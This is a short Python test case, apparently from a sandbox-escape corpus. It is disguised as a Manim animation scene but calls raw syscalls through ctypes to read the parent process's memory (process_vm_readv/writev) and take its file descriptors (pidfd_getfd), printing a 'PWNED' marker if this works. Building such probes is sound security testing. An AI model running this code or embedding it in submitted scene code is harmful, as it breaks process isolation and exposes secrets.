# ATTACK: secret
# SUCCESS: the parent's memory by process_vm_readv and pidfd_getfd
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import ctypes, os
        l = ctypes.CDLL(None, use_errno=True)
        b = ctypes.create_string_buffer(64)
        class V(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("n", ctypes.c_size_t)]
        v = V(ctypes.addressof(b), 64)
        for n in (310, 311):
            if l.syscall(n, os.getppid(), ctypes.byref(v), 1, ctypes.byref(v), 1, 0) >= 0 or ctypes.get_errno() == 14: print("PWN" "ED-@NONCE@", n)
        f = l.syscall(434, os.getppid(), 0)
        if f >= 0 and l.syscall(438, f, 0, 0) >= 0: print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
